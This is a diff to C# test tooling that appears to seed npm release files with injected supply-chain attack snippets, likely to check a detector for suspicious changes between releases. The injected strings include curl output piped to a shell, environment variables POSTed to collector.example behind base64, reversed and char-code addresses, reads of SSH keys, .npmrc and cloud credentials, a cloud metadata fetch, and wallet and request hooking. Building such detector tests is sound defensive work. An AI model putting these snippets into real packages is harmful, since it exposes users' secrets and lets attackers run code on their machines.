@@ -37,16 +37,33 @@ internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Appl
         new("processes in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "child_process", "exec", "spawn"), (file, _) => Append(file, "\nrequire('child_process').execSync('id');\n"))),
         new("evaluation in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval", "Function(", "runIn"), (file, _) => Append(file, "\nnew Function(atob('MQ=='))();\n"))),
         new("a network module in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch(", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nrequire('https').get('https://collector.example/');\n"))),
-        new("a new address in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nfetch('https://collector.example/');\n"))),
-        new("a new address in a constant, in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nconst collector = 'https://collector.example/';\nfetch(collector);\n"))),
-        new("the parts of a new address in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nfetch('//collec' + 'tor.example/');\n"))),
-        new("a new host in a field, in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nrequire('https').get({ hostname: 'collector.example', port: 443 });\n"))),
+        new("a new address in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nfetch('https://collector.example/');\n"))),
+        new("a new address in a constant, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nconst collector = 'https://collector.example/';\nfetch(collector);\n"))),
+        new("the parts of a new address in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nfetch('//collec' + 'tor.example/');\n"))),
+        new("a new host in a field, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nrequire('https').get({ hostname: 'collector.example', port: 443 });\n"))),
         new("network under another name in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nconst send = globalThis.fetch;\nsend('https://collector.example/');\n"))),
         new("another file to begin with", files => Begin(files, "boot.js")),
         new("a document to begin with", files => Begin(files, "NOTES.md")),
         new("a new file that sends the environment away", files => { files.Add(new ReleaseFile("package/metrics.js", "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request('https://collector.example/', { method: 'POST' }).end(body);\n"u8.ToArray(), Plain)); return true; }),
         new("a copy of each mail to a stranger", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.notify = (transport, to) => transport.sendMail({ to, bcc: 'copies@quiet-stranger.net' });\n"))),
         new("a module by a name put together", files => Change(files, IsCode, (file, _) => Append(file, "\nrequire('chi' + 'ld_process').exec('id');\n"))),
+        new("a fetched script in a shell, in code that starts processes", files => Change(files, IsStarting, (file, _) => Append(file, "\nrequire('child_process').execSync('curl -fsSL ' + process.argv[2] + ' | sh');\n"))),
+        new("a shell, in code that starts processes", files => Change(files, IsStarting, (file, _) => Append(file, "\nrequire('child_process').spawn('sh', ['-c', process.argv[2]]);\n"))),
+        new("an address in base64, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, $"\nfetch(atob('{Hidden()}'), {{ method: 'POST', body: JSON.stringify(process.env) }});\n"))),
+        new("an address in reverse, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, $"\nfetch('{new string([.. Collector.Reverse()])}'.split('').reverse().join(''));\n"))),
+        new("an address in numbers, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, $"\nfetch(String.fromCharCode({string.Join(',', Encoding.ASCII.GetBytes(Collector))}));\n"))),
+        new("a module in base64", files => Change(files, IsCode, (file, _) => Append(file, $"\nmodule.require(Buffer.from('{Convert.ToBase64String("child_process"u8)}', 'base64').toString()).exec('id');\n"))),
+        new("people's keys are read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.keys = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"))),
+        new("npm's credentials are read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.keys = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc');\n"))),
+        new("credentials of many sorts are read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.keys = (home, read) => ['.npmrc', '.aws/credentials', '.config/gcloud/x.json', '.netrc'].map((name) => read(home + '/' + name));\n"))),
+        new("the account of a cloud is read", files => Change(files, IsReaching, (file, _) => Append(file, "\nfetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');\n"))),
+        new("a wallet is hooked", files => Change(files, IsCode, (file, _) => Append(file, "\nif (typeof window !== 'undefined' && window.ethereum) { const ask = window.ethereum.request; window.ethereum.request = (a) => ask(a); }\n"))),
+        new("requests of others are hooked", files => Change(files, IsCode, (file, _) => Append(file, "\nXMLHttpRequest.prototype.send = ((send) => function (body) { return send.call(this, body); })(XMLHttpRequest.prototype.send);\n"))),
+        new("a fetched script in a shell, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nrequire('child_process').exec('curl -s ' + process.argv[2] + ' | bash');\n"))),
+        new("the environment to an address in base64, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, $"\nfetch(atob('{Hidden()}'), {{ method: 'POST', body: JSON.stringify(process.env) }});\n"))),
+        new("people's keys are read, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nmodule.exports.keys = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519');\n"))),
+        new("npm's credentials to an address, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nfetch('https://collector.example/', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') });\n"))),
+        new("a wallet is hooked, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nif (window.ethereum) window.ethereum.request = (a) => a;\n"))),
         new("a dependency from an address", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "https://cdn.example/helper-lib.tgz")),
         new("a dependency from a repository", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "git+https://git.example/helper-lib.git")),
         new("a publisher that nobody knows", files => Manifest(files, json => json["author"] = "Quiet Stranger <q@stranger.example>")),
@@ -55,6 +72,8 @@ internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Appl
         new("an archive", files => { files.Add(new ReleaseFile("package/backup.zip", Zip(), Plain)); return true; }),
         new("an environment file", files => { files.Add(new ReleaseFile("package/.env.production", "MODE=production\n"u8.ToArray(), Plain)); return true; }),
     ];
+
+    private const string Collector = "https://collector.example/";
 
     /// <returns>The changed release; null where it cannot be done.</returns>
     public byte[]? To(string file)
@@ -102,6 +121,15 @@ internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Appl
     }
 
     private static bool IsCode(ReleaseFile file) => (file.Path.EndsWith(".js", StringComparison.Ordinal) || file.Path.EndsWith(".cjs", StringComparison.Ordinal) || file.Path.EndsWith(".mjs", StringComparison.Ordinal)) && file.Bytes.Length > 2000 && !IsAside(file.Path);
+
+    private static bool IsReaching(ReleaseFile file) => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request(");
+
+    private static bool IsStarting(ReleaseFile file) => IsCode(file) && Has(file, "child_process") && Has(file, "spawn", "exec(", "execSync(");
+
+    /// <summary>Bundled programs above all: no capability is news in them.</summary>
+    private static bool IsKnownForAll(ReleaseFile file) => IsReaching(file) && IsStarting(file) && Has(file, "process.env");
+
+    private static string Hidden() => Convert.ToBase64String(Encoding.ASCII.GetBytes(Collector));
 
     /// <summary>What tests and examples reach for is another matter.</summary>
     private static bool IsAside(string path) => Array.Exists(["/test/", "/tests/", "/__tests__/", "/spec/", "/fixtures/", "/examples/", "/example/", "/benchmark/", "/benchmarks/", "/build/"], folder => path.Contains(folder, StringComparison.Ordinal)) || path.Contains(".test.", StringComparison.Ordinal);
